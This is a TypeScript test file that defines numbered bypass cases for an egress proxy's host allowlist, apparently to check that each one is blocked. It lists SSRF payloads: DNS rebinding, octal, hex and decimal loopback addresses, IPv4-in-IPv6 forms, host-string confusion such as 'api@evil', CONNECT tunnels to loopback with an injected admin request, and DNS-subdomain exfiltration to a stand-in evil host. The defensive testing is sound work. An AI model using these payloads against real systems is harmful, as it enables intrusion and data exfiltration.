import type { Attempt, BypassCase, Control } from "./case.ts";
import { ADDRESS, API, EVIL, LYING, MIXED, OTHER_PORT, REBOUND } from "./places.ts";
import { askWithin, tunnelControl } from "./tls.ts";
import type { Sighting } from "./world.ts";

/** Which host it is: the classes that live in the name, its address, or between the two. */
export const plainControl = (host = API): Control => ({
  name: `a plain request to ${host} arrives`,
  run: async (door, mark) => void (await door.ask({ authority: host, path: `/v1/${mark}` })),
  isPassed: ({ by, place, port }) => by === "request" && place === ADDRESS.api && port === 80,
});

export const isElsewhere = ({ by, place }: Sighting) => by !== "query" && place !== ADDRESS.api;

const plain = (authority: string, isThrough?: Attempt["isThrough"]): Attempt => ({
  name: JSON.stringify(authority),
  run: async (door, mark) => void (await door.ask({ authority, path: `/v1/${mark}` })),
  ...(isThrough === undefined ? {} : { isThrough }),
});
const lying = (name: string) => plain(name, isElsewhere);

const tunnelTo = (authority: string, serverName: string): Attempt => ({
  name: `CONNECT ${authority}`,
  run: async (door, mark) =>
    void (await askWithin(door, { to: authority, serverName, request: { authority: API, path: `/v1/${mark}` } })),
});

const inIpv6 = /mapped|compatible|nat64|6to4/;

export const NAME_CASES: readonly BypassCase[] = [
  {
    number: 1,
    name: "DNS rebinding",
    why: "an allowed name leads inside at the moment of the dial",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      {
        name: "a name whose second answer is loopback, asked for six times",
        async run(door, mark) {
          for (let i = 0; i < 6; i++) await door.ask({ authority: REBOUND, path: `/v1/${mark}` });
        },
        isThrough: isElsewhere,
      },
      lying(MIXED),
      ...Object.keys(LYING)
        .filter((name) => !inIpv6.test(name) && name !== "to-self.example")
        .map(lying),
    ],
  },
  {
    number: 2,
    name: "number forms of an address",
    why: "getaddrinfo dials what no check called an address",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      "0177.0.0.1",
      "0x7f.0.0.1",
      "0x7f000001",
      "2130706433",
      "127.1",
      "0",
      "127.0.0.01",
      "0xa9fea9fe",
      "0251.0376.0251.0376",
      "①②⑦.0.0.1",
      "127。0。0。1",
      "45.66",
    ].map((authority) => plain(authority)),
  },
  {
    number: 3,
    name: "IPv4 inside IPv6",
    why: "the address inside is not the one that was looked at",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      ...["[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::1]", "[::1]"].map((one) =>
        plain(one),
      ),
      ...["[fe80::1%25lo]", "[::1%25lo]", "[::ffff:45.0.0.66]"].map((one) => plain(one)),
      ...Object.keys(LYING)
        .filter((name) => inIpv6.test(name))
        .map(lying),
    ],
  },
  {
    number: 4,
    name: "tricks in the host string",
    why: "two readers of one string see two hosts",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      `${API}@${EVIL}`,
      `${API}:80@${EVIL}`,
      `${API}%00.${EVIL}`,
      `${API}\0.${EVIL}`,
      `${API}\t.${EVIL}`,
      `${EVIL}#${API}`,
      `${EVIL}?${API}`,
      `${EVIL}\\@${API}`,
      `${EVIL}/.${API}`,
      `[${EVIL}]`,
      `${EVIL}.`,
      "evil%2eexample",
      `${EVIL}%2f.${API}`,
      "ｅvil.example",
      `evil。example`,
      `x${API}`,
      `${API}.${EVIL}`,
      `a.${API}`,
      "apiaexample",
    ].map((authority) => plain(authority, isElsewhere)),
  },
  {
    number: 5,
    name: "CONNECT to an address or to another port",
    why: "a rule for a name and port is taken for one for the host behind",
    needs: [],
    allowed: [tunnelControl()],
    attempts: [
      tunnelTo(`${ADDRESS.evil}:443`, API),
      tunnelTo(`${ADDRESS.api}:443`, API),
      tunnelTo("127.0.0.1:443", API),
      tunnelTo("[::1]:443", API),
      tunnelTo("2130706433:443", API),
      tunnelTo(`${EVIL}:443`, API),
      tunnelTo(`${API}@${EVIL}:443`, API),
      {
        name: `CONNECT ${API}:${OTHER_PORT}`,
        async run(door, mark) {
          const tunnel = await door.tunnel(`${API}:${OTHER_PORT}`);
          if (tunnel.status === "refused") return undefined;
          tunnel.stream.end(`EHLO ${mark}\r\n`);
          return "through";
        },
      },
      {
        name: `CONNECT ${API}:80, and HTTP in it`,
        async run(door, mark) {
          const tunnel = await door.tunnel(`${API}:80`);
          if (tunnel.status === "refused") return undefined;
          tunnel.stream.end(`GET /admin/${mark} HTTP/1.1\r\nhost: ${API}\r\n\r\n`);
          return "through";
        },
      },
    ],
  },
  {
    number: 10,
    name: "DNS as a way out",
    why: "a question for a name carries data to whoever answers for it",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      {
        name: "a name below the evil host",
        run: async (door, mark) => void (await door.ask({ authority: `${mark}.${EVIL}`, path: "/v1/x" })),
      },
      {
        name: "a name below the allowed host",
        run: async (door, mark) => void (await door.ask({ authority: `${mark}.${API}`, path: "/v1/x" })),
      },
      {
        name: "a tunnel to a name below the evil host",
        async run(door, mark) {
          const tunnel = await door.tunnel(`${mark}.${EVIL}:443`);
          if (tunnel.status === "open") tunnel.stream.destroy();
        },
      },
      {
        name: "a name in a query, looked up by nobody",
        run: async (door, mark) => void (await door.ask({ authority: API, path: `/v1/x?q=${mark}.${EVIL}` })),
        isThrough: ({ by }) => by === "query",
      },
    ],
  },
  {
    number: 18,
    name: "the proxy itself, and the machine it runs on",
    why: "the proxy stands where the guest may not, and would ask on its behalf",
    needs: [],
    allowed: [plainControl()],
    attempts: [
      ...["127.0.0.1", "localhost", "0.0.0.0", ADDRESS.own].map((one) => plain(one)),
      lying("to-self.example"),
      tunnelTo("localhost:443", "localhost"),
      tunnelTo(`${ADDRESS.own}:443`, API),
    ],
  },
];
